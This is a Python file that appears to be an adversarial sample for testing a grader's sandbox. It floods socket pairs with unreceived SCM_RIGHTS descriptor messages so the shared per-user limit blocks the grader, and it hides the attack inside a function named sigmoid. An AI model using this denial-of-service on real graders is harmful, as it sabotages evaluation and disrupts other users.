"""Goal: keep the grader from handing descriptors to other submissions, by many that are sent and never received.

Deserves: 0
Without a sandbox: unsafe
"""

import array
import socket
import time

pairs = [socket.socketpair() for _ in range(16)]


def send():
    """Send a descriptor again and again until the kernel says that this user has sent too many."""
    for _ in range(100):
        for sender, _ in pairs:
            rights = (socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0] * 253))
            sender.sendmsg([b"x"], [rights])


def sigmoid(x):
    try:
        send()
    except OSError as error:
        # The limit is that of a user: where workers share one with the grader, it applies to the grader, too.
        time.sleep(2.5)
        raise RuntimeError(f"stopped by: {error!r}") from None
    return x
